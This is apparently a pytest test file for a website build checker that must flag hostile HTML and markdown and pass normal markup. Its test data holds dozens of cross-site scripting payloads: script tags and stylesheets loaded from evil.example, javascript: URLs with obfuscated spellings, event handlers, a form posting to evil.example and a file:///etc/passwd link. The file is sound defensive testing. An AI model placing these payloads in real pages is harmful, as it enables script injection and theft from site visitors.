"""What a built page may hold: each attack is seen, and what we write is let through."""

import markdown
import pytest

from macros.content import markup

ATTACKS = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    '<script src="//evil.example/assets/x.js"></script>',
    '<script src="data:text/javascript,alert(1)"></script>',
    '<script src="../bilder/x.js"></script>',
    "<script/src=x>",
    "<ScRiPt >alert(1)</sCrIpT >",
    '<script type="module">alert(1)</script>',
    '<script type="application/json">alert(1)</script>',
    '<p onclick="alert(1)">x</p>',
    "<p oNcLiCk=alert(1)>x</p>",
    '<p class="a"onclick="alert(1)">x</p>',
    "<p/onclick=alert(1)>x</p>",
    "<p\x0conclick=alert(1)>x</p>",
    '<p style="background:url(//evil.example)">x</p>',
    "<style>body{background:url(//evil.example)}</style>",
    '<style media="print">@import "//evil.example";</style>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jAvAsCrIpT:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#115;cript&colon;alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="a.html" href="b.html" target="_blank">x</a>',
    '<a href="https://ok.example" ping="https://evil.example">x</a>',
    '<img src="https://evil.example/x.png" alt="">',
    '<img src=x onerror="alert(1)">',
    '<img src="x.svg" alt="">',
    '<img srcset="//evil.example/x.png" alt="">',
    '<iframe src="x.html"></iframe>',
    "<object data=x></object>",
    "<embed src=x>",
    "<base href=//evil.example>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="preload" href="x.css">',
    '<link rel="manifest" href="x.json">',
    '<form action="https://evil.example"><input name="p"></form>',
    '<button formaction="https://evil.example">x</button>',
    '<input type="image" src="x">',
    "<svg><use href='x'/></svg>",
    "<svg><animate attributeName=href values=javascript:x></svg>",
    "<math><mtext></mtext></math>",
    "<!-- hidden -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>]]>",
    "<?php x ?>",
    '<p title="a',
    "<x-y>z</x-y>",
    "<p>a < b</p>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_a_built_page_is_seen_with_its_line(attack: str) -> None:
    found = list(markup.faults(f"<p>En</p>\n{attack}\n"))
    assert found
    assert found[0].line == 2


@pytest.mark.parametrize("attack", ["</title><script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>"])
def test_what_breaks_out_of_an_element_of_text_is_seen(attack: str) -> None:
    assert list(markup.faults(f"<title>{attack}</title>")) or list(markup.faults(f"<textarea>{attack}</textarea>"))


SOUND = [
    '<!doctype html><html lang="nb"><head><meta charset=utf-8><title>5 < 10</title></head><body></body></html>',
    '<a href="../ledelse/#a" class="tip-x" data-id=\'a "b"\'>x</a><a href="https://dfo.no/?a=b:c">y</a>',
    '<link rel="canonical" href="https://example.org/"><link rel="stylesheet" href="assets/base.css">',
    '<script src="../../assets/search/worker.js"></script><script type="application/json">{"a": "<b>"}</script>',
    '<svg viewBox="0 0 1 1" xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
    "<p>x&quot; onmouseover=&quot;alert(1) &lt;script&gt;</p>",
]


@pytest.mark.parametrize("html", SOUND)
def test_what_the_site_is_made_of_is_let_through(html: str) -> None:
    assert list(markup.faults(html)) == []


PROSE = [
    "[x](javascript:alert(1))",
    "[x][a]\n\n[a]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/x.png)",
    "# Hei { onclick=alert(1) }",
    "*x*{: style=color:red }",
    '<div markdown="1" onclick="x">\n*x*\n</div>',
    "<input name=p>",
    "<dialog open>x</dialog>",
    "<button>x</button>",
    "x\n{: class=md-overlay }",
    "<!-- x -->",
]


@pytest.mark.parametrize("text", PROSE)
def test_what_markdown_makes_of_a_page_is_held_to_a_tighter_list(text: str) -> None:
    html = markdown.markdown(text, extensions=["admonition", "attr_list", "md_in_html", "tables", "fenced_code"])
    assert list(markup.prose_faults(html)), html


def test_plain_markdown_is_let_through() -> None:
    text = "# A\n\n!!! note\n\n    *b* **c** `<d>` [e](f.md)\n\n| g | h |\n|---|---|\n| i | j |\n\n```yaml\nk: l\n```\n"
    html = markdown.markdown(text, extensions=["admonition", "attr_list", "tables", "fenced_code", "toc"])
    assert list(markup.prose_faults(f"{html}\n<!--tip:0123456789abcdef-->")) == []


@pytest.mark.parametrize(
    "path", ["x.html.exe", "evil.js", "ledelse/x.svg", ".git/config", "assets/x.php", "søk/index.html"]
)
def test_a_file_of_another_kind_is_seen(path: str) -> None:
    assert markup.file_fault(path)
